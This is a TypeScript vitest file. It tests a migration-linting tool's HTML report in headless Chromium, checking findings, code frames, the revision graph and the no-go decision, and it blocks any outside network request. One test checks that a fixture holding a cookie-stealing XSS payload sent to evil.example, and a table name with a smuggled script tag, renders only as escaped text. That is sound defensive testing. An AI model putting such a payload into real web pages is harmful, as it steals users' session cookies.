// The HTML report opened in a real headless Chromium (Debian's `chromium`, driven by
// playwright-core; no browser is downloaded). Every request the page makes is routed: anything
// but file: and data: URLs fails the test. A screenshot is saved to test-artifacts/report.png.
import { existsSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { chromium, type BrowserContext, type Page } from "playwright-core";
import { runCli } from "./helpers.js";

const CHROMIUM = "/usr/bin/chromium";
const HAS_CHROMIUM = existsSync(CHROMIUM);
const ARTIFACTS = path.resolve("test-artifacts");
/** In CI (CI=true; .ci/run installs chromium) a missing browser fails the suite instead of skipping it. */
const IN_CI = process.env.CI === "true";
const SKIP_NOTE = HAS_CHROMIUM || IN_CI ? "" : ` (SKIPPED: ${CHROMIUM} is absent; install Debian's chromium package: apt-get install -y chromium)`;

if (!HAS_CHROMIUM && !IN_CI) console.warn(`visual-html-browser: ${CHROMIUM} not found, the HTML report browser tests are skipped. Install it with: apt-get install -y chromium`);

test.runIf(IN_CI)("Chromium is installed (CI=true: .ci/run installs Debian's chromium)", () => {
  expect(existsSync(CHROMIUM), `${CHROMIUM} is missing: apt-get install -y chromium`).toBe(true);
});

describe.skipIf(!HAS_CHROMIUM)(`HTML report in headless Chromium${SKIP_NOTE}`, () => {
  let context: BrowserContext;
  let page: Page;
  let userDataDir: string;
  const outside: string[] = [];
  const workDir = mkdtempSync(path.join(tmpdir(), "gonogo-html-"));

  beforeAll(async () => {
    userDataDir = mkdtempSync(path.join(tmpdir(), "gonogo-chromium-profile-"));
    context = await chromium.launchPersistentContext(userDataDir, {
      executablePath: CHROMIUM,
      headless: true,
      args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
      viewport: { width: 1200, height: 900 },
    });
    await context.route("**/*", async (route) => {
      const url = route.request().url();
      if (url.startsWith("file:") || url.startsWith("data:")) return route.continue();
      outside.push(url);
      return route.abort();
    });
    page = context.pages()[0] ?? (await context.newPage());
  }, 120_000);

  afterAll(async () => {
    await context?.close();
    rmSync(userDataDir, { recursive: true, force: true });
    rmSync(workDir, { recursive: true, force: true });
  });

  async function openReport(cwd: string, argv: string[], name: string): Promise<{ code: number; json: { filePath: string; messages: { message: string; ruleId: string }[] }[] }> {
    const file = path.join(workDir, `${name}.html`);
    const run = await runCli([...argv, "--format", "html", ...(argv[0] === "scan" ? ["--output", file] : [])], { cwd });
    expect(run.stderr).toBe("");
    if (argv[0] !== "scan") {
      const { writeFileSync } = await import("node:fs");
      writeFileSync(file, run.stdout);
    }
    const json = JSON.parse((await runCli(["scan", "--format", "json"], { cwd })).stdout);
    await page.goto(pathToFileURL(file).href, { waitUntil: "load" });
    return { code: run.code, json };
  }

  test("scan report: findings grouped by file, code frames, the graph as inline SVG, nothing fetched", async () => {
    const { json } = await openReport("fixtures/visual/billing", ["scan"], "billing");
    const messages = json.flatMap((r) => r.messages);
    expect(messages.length).toBe(4);

    await expect(page.title()).resolves.toBe("gonogo report");
    expect(await page.locator("li.finding").count()).toBe(messages.length);
    expect(await page.locator("section.file").count()).toBe(json.length);
    for (const m of messages) {
      const row = page.locator("li.finding", { hasText: m.message });
      expect(await row.count()).toBe(1);
      expect(await row.locator(".rule").textContent()).toBe(m.ruleId);
      await expect(row.isVisible()).resolves.toBe(true);
    }
    // Each finding's range is marked inside its code frame.
    const dropRow = page.locator("li.finding", { hasText: "Table legacy_payments is dropped" });
    expect(await dropRow.locator("tr.hit mark").textContent()).toBe('op.drop_table("legacy_payments")');
    // Severity chips.
    expect(await page.locator('.chip[data-severity="critical"] .count').textContent()).toBe("1");
    expect(await page.locator('.chip[data-severity="info"] .count').textContent()).toBe("0");

    // The revision graph: inline SVG, rendered with a size, one node per migration, coloured.
    const svg = page.locator("section.graph svg");
    expect(await svg.count()).toBe(1);
    const box = await svg.boundingBox();
    expect(box!.width).toBeGreaterThan(300);
    expect(box!.height).toBeGreaterThan(300);
    expect(await svg.locator("g.node").count()).toBe(6);
    expect(await svg.locator('g.node[data-revision="f6a7b8c9d0e1"]').getAttribute("data-color")).toBe("red");
    expect(await svg.locator('g.node[data-revision="d4e5f6a7b8c9"]').getAttribute("data-color")).toBe("blue");
    // A node links to its file's findings.
    const href = await svg.locator("a", { has: page.locator('g.node[data-revision="f6a7b8c9d0e1"]') }).getAttribute("href");
    expect(await page.locator(`${href} h3`).textContent()).toContain("f6a7b8c9d0e1_drop_legacy_payments.py");
    expect(await page.locator(".decision").count()).toBe(0);

    mkdirSync(ARTIFACTS, { recursive: true });
    await page.screenshot({ path: path.join(ARTIFACTS, "report.png"), fullPage: true });
    expect(existsSync(path.join(ARTIFACTS, "report.png"))).toBe(true);
    expect(outside).toEqual([]);
  }, 120_000);

  test("check report: the decision with its reasons", async () => {
    const { code } = await openReport("fixtures/visual/billing", ["check", "--env", "production"], "check");
    expect(code).toBe(1);
    expect((await page.locator(".decision .verdict").textContent())?.trim()).toBe("no-go");
    expect(await page.locator(".decision").getAttribute("class")).toContain("decision-no-go");
    const codes = await page.locator(".reasons tr.reason code").allTextContents();
    expect(codes).toContain("blocking-finding");
    expect(await page.locator("li.finding").count()).toBe(4);
    expect(await page.locator("section.graph svg g.node").count()).toBe(6);
    await page.screenshot({ path: path.join(ARTIFACTS, "check.png"), fullPage: true });
    expect(outside).toEqual([]);
  }, 120_000);

  test("hostile text is shown as text: no element, no script, no request, exact ranges after astral characters", async () => {
    const { json } = await openReport("fixtures/visual/hostile", ["scan"], "hostile");
    const messages = json.flatMap((r) => r.messages);
    expect(await page.locator("li.finding").count()).toBe(messages.length);
    // The migration's line holds <img> and <script>: they must appear as text only.
    expect(await page.locator("main img").count()).toBe(0);
    expect(await page.locator("script").count()).toBe(0);
    const frame = page.locator("li.finding", { hasText: "DELETE removes every row" }).locator("table.frame");
    expect(await frame.textContent()).toContain("<script>fetch('https://evil.example/'+document.cookie)</script>");
    expect(await page.locator("li.finding", { hasText: "Table users<script> is dropped" }).count()).toBe(1);
    // Columns are UTF-16 units: after two astral characters the mark still covers exactly the statement.
    const mark = page.locator("li.finding", { hasText: "is dropped" }).locator("tr.hit mark");
    expect(await mark.textContent()).toBe('DROP TABLE "users<script>"');
    // Tabs kept; the graph title escaped.
    expect(await page.locator("section.graph svg g.node title").textContent()).toContain('purge <b>sessions</b> & "tokens"');
    expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
    expect(outside).toEqual([]);
  }, 120_000);
});
